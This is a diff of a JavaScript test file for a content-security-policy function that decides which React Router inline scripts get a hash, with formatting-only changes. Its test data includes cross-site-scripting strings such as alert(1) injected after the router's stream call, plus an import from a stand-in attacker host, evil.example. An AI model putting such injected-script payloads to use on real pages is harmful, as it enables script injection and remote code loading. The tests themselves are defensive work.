@@ -26,7 +26,7 @@ test.each([
   `${enqueue}alert(1)`,
   'window.__reactRouterContext.streamController.enqueue("");alert("");',
   'window.__reactRouterContext.streamController.enqueue(""+alert(1)+"");',
-  'window.__reactRouterContext = {};alert(1);window.__reactRouterContext.stream = new ReadableStream({});',
+  "window.__reactRouterContext = {};alert(1);window.__reactRouterContext.stream = new ReadableStream({});",
   'import "https://evil.example/x.js";\n  window.__reactRouterRouteModules = {};\n\nimport("/assets/entry.js");',
   'import "/assets/a.js"; alert(1);\n  window.__reactRouterRouteModules = {};\n\nimport("/assets/entry.js");',
 ])("a script that is not the router's gets no hash: %s", (code) => {
@@ -36,7 +36,8 @@ test.each([
 });
 
 test("data blocks and files need no hash", () => {
-  const html = '<script type="application/json" id="a">{"b":1}</script><script type="application/ld+json">{}</script><script src="/assets/a.js"></script>';
+  const html =
+    '<script type="application/json" id="a">{"b":1}</script><script type="application/ld+json">{}</script><script src="/assets/a.js"></script>';
   expect(pagePolicy(html, settings).header).toContain("script-src 'self';");
 });
 
